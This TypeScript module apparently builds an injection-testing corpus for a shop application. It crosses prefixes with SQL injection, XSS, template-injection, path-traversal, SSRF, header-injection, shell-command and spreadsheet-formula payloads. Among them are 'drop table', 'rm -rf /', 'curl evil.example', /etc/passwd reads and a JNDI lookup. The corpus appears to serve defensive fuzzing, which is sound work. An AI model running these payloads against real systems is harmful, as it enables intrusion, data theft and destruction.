/** A grammar of attacks: each head followed by each tail. */
const crossed = (heads: readonly string[], ...tails: readonly (readonly string[])[]): string[] =>
  heads.flatMap((head) => tails.flat().map((tail) => head + tail));

const sql = [
  ...crossed(
    ["'", '"', "')", '")', "'))", '1', "1'", 'a', "\\'", '%27', "';", '`', '$$', "E'\\''"],
    [' or 1=1 --', ' or true--', '\u0027 or 1=1', '/**/or/**/1=1#', '::int', ' having 1=1', ' for update', ' returning *'],
    [' and 1=0 union select null--', ' union select password from access_admin--', ' union all select 1,2,3,4,5,6,7,8--'],
    ['; drop table sales_order; --', '; update access_admin set super = true --', '; insert into access_admin default values --'],
    ['; copy sales_order to program $$id$$; --', '; set role postgres; --', '; listen x; --', '; select pg_sleep(10) --'],
    [" || (select pg_read_file('/etc/passwd')) || '", ' and extractvalue(1,1)', " and substr(version(),1,1)='P"],
    [' and (select count(*) from pg_catalog.pg_tables)>0', ' group by id having count(*)>0 --', ' limit (select 1)'],
    [' order by (case when true then id else price end)', ' limit 1 offset 99999999999999'],
  ),
  ...crossed(
    [''],
    ['id desc', 'id; --', '(select 1)', 'case when 1=1 then id end', 'random()', 'pg_sleep(5)', 'version()'],
    ['password', 'deleted_at'],
  ),
];

const tags = [
  ['script', 'img src=x', 'svg', 'iframe', 'body', 'math', 'details open', 'video', 'object', 'embed', 'style'],
  ['a href=#', 'form', 'input', 'button', 'select', 'marquee', 'base', 'link', 'meta', 'audio', 'template'],
].flat();
const acts = [
  ['onerror=alert(1)', 'onload=alert(1)', 'onfocus=alert(1) autofocus', 'ontoggle=alert(1)', '\u0000onerror=alert(1)'],
  ['onpointerenter=alert(1)', 'onanimationend=alert(1) style=animation:x', 'style=background:url(javascript:alert(1))'],
  ['href=javascript:alert(1)', 'formaction=javascript:alert(1)', 'srcdoc=<script>alert(1)</script>'],
  ['x:href=data:text/html,1', 'xlink:href=//evil.example', 'action=//evil.example'],
].flat();
const html = [
  ...tags.flatMap((tag) => acts.flatMap((act) => [`<${tag} ${act}>`, `<${tag.toUpperCase()}/${act}//`])),
  '<!--<script>-->',
  '<![CDATA[<x>]]>',
  ']]>',
  '</textarea><script>1</script>',
  '&lt;script&gt;',
  '&#x3c;script&#x3e;',
  '<noscript><p title="</noscript><img src=x onerror=1>">',
];

const templates = crossed(
  ['', 'a', '{', '\\'],
  ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%if 1%}', '@(7*7)', '*{7*7}', '[[1]]', '{name}', '{{0}}', '{0}'],
  ['{{constructor.constructor("return 1")()}}', '${jndi:ldap://x/a}', '%s%n%x', '%d', '__proto__', '$1', '$&', '\\u0041'],
);

const paths = crossed(
  ['', '/', '\\', './', 'file://', '/storage/', '%2f', 'C:\\', '\\\\host\\'],
  ['../../../etc/passwd', '..\\..\\windows\\win.ini', '..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '..;/..;/'],
  ['..%c0%af..%c0%afetc', '%2e%2e%2f%2e%2e%2f', '..%255c..%255c', '%00/etc/passwd', '/proc/self/environ', 'a/../b', '.', '..'],
  ['.git/config', '.env', 'CON', 'NUL.txt', 'aux', 'a:b', 'a\u0000.png', '~root', 'a.png::$DATA', 'a.jpg.html', 'x'.repeat(300)],
);

const addresses = crossed(
  [
    'http://',
    'https://',
    '//',
    '/\\',
    'javascript:',
    'data:text/html,',
    'ftp://',
    'HTTP://',
    'http:\\\\',
    'http://a@',
    'gopher://',
  ],
  ['127.0.0.1', '[::1]', '0x7f000001', '2130706433', '0177.0.0.1', '169.254.169.254/latest', '[::ffff:127.0.0.1]'],
  ['localhost:5432', 'evil.example', 'shop.example@evil.example', '%09/evil.example', '\u2028evil.example'],
  ['xn--80ak6aa92e.com', '１２７.０.０.１', 'a b', '"><script>', '..', ''],
);

const lines = crossed(
  ['a', '', 'x@shop.example', 'https://shop.example/'],
  ['\r\nSet-Cookie: a=b', '\nBcc: all@shop.example', '\r\n\r\n<html>', '%0d%0aX: y', '\u2028X', '\u2029X', '\u0085X'],
  ['\r', '\n', '\t', '\v', '\f', '\u000bx', '\u001b[31m'],
);

const commands = crossed(
  [';', '|', '&&', '`', '$(', '\n', '%0a', '||', '>'],
  ['id', 'cat /etc/passwd', 'sleep 5', 'curl evil.example', 'rm -rf /', 'ping -c 9 127.0.0.1', 'powershell -c 1', 'whoami`'],
);
const formulas = crossed(
  ['=', '+', '-', '@', '\t=', '\r=', '＝', ' ='],
  [
    '1+1',
    'HYPERLINK("http://evil.example")',
    "cmd|'/C calc'!A0",
    'SUM(A1:A9)',
    'IMPORTXML("http://x")',
    'DDE("a";"b";"c")',
    'A1',
  ],
);
const searches = [
  ['*', '%', '_', '%%%%', '\\', '\\%', '(', '[', '.*', '^(a+)+$', '(?=', 'a{1,99999}', '\\1', ':*', 'a & b', '!'],
  ['<->', "''", '""', '()', ' or ', 'AND', '*:*', '$ne', '{"$gt":""}'],
].flat();

/** Strings that could be executed: by a database, page, template, file system, URL, mail, shell or spreadsheet. */
export const attacks: Readonly<Record<string, readonly string[]>> = {
  sql,
  html,
  templates,
  paths,
  addresses,
  lines,
  commands,
  formulas,
  searches,
};
